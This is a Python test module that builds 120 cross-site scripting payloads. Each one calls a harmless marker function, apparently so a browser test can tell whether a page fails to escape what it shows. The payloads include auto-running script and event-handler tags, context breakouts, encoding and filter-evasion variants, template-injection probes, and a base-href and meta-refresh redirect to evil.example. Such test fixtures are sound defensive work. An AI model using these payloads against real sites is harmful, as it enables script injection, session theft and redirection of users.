"""120 texts that would run a script on a page that does not escape what it shows.

Each calls ``af_attack()``, so that a browser can tell. Facts of the trade: where HTML
may be broken out of (text, attribute, comment, textarea, style, script, template), and
what runs without a click.
"""

from __future__ import annotations

from itertools import product

CALL = "af_attack()"

# what runs as soon as it is in the page
ELEMENTS = (
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}></svg>",
    f"<body onload={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f'<a href="javascript:{CALL}" autofocus onfocus={CALL}>x</a>',
    f"<math><mtext><script>{CALL}</script></mtext></math>",
)
# what closes whatever the text stands in
CLOSERS = (
    "",
    '">',
    "'>",
    "</label>",
    "</fieldset></form>",
    "</title>",
    "</textarea>",
    "-->",
    "</script>",
    "]]>",
)
OTHERS = (
    f'" onmouseover="{CALL}" x="',
    f"' autofocus onfocus='{CALL}' x='",
    f'" autofocus onfocus={CALL} x="',
    f"` onmouseover=`{CALL}`",
    f"javascript:{CALL}",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;script&#62;{CALL}&#60;/script&#62;",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"{{{{ {CALL} }}}}",
    f"{{% raw %}}<script>{CALL}</script>{{% endraw %}}",
    "{{ ''.__class__.__mro__ }}",
    "{title.__class__}{0}{groups}",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<ScRiPt\t>{CALL}</sCrIpT\n>",
    f"<script\x0c>{CALL}</script\x0c>",
    f"<img/src=x/onerror={CALL}//",
    f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    f"<base href='https://evil.example/'><script>{CALL}</script>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
)
PAYLOADS = (
    tuple(closer + element for closer, element in product(CLOSERS, ELEMENTS)) + OTHERS
)
assert len(PAYLOADS) == len(set(PAYLOADS)) == 120
